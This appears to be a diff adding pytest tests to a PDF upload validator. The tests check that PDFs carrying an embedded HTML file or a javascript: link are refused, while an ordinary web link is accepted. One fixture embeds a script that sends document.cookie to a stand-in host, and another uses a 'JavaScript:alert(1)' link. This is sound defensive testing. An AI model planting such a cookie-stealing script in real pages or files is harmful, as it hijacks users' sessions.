@@ -209,3 +209,34 @@ def test_the_upload_form_says_why_and_keeps_nothing(people, dossier, file_name, 
     page = response.content.decode()
     assert "PDF ini memuat JavaScript" in page or "Berkas ini tidak utuh" in page
     assert not dossier.documents.exists()
+
+
+def attached_page(writer):
+    writer.add_attachment("tagihan.html", b"<script>fetch('https://contoh.invalid/?c='+document.cookie)</script>")
+
+
+def link_to_a_script(writer):
+    writer.add_annotation(0, DictionaryObject({
+        name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
+        name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
+        name("/A"): DictionaryObject({name("/S"): name("/URI"), name("/URI"): TextStringObject(" JavaScript:alert(1)")}),
+    }))
+
+
+@pytest.mark.parametrize("make, what", [
+    (lambda: pdf_with(attached_page), "berkas tersemat (lampiran di dalam PDF)"),
+    (lambda: pdf_with(link_to_a_script), "tautan javascript:"),
+], ids=["embedded-html", "javascript-link"])
+def test_a_pdf_carrying_a_file_or_a_script_link_is_refused(make, what):
+    assert refusal("surat.pdf", make()).startswith(f"PDF ini memuat {what}")
+
+
+def test_an_ordinary_web_link_still_passes():
+    def web_link(writer):
+        writer.add_annotation(0, DictionaryObject({
+            name("/Type"): name("/Annot"), name("/Subtype"): name("/Link"),
+            name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
+            name("/A"): DictionaryObject({name("/S"): name("/URI"), name("/URI"): TextStringObject("https://kalbarprov.go.id")}),
+        }))
+
+    assert validate_upload(upload("surat.pdf", pdf_with(web_link))) == PDF
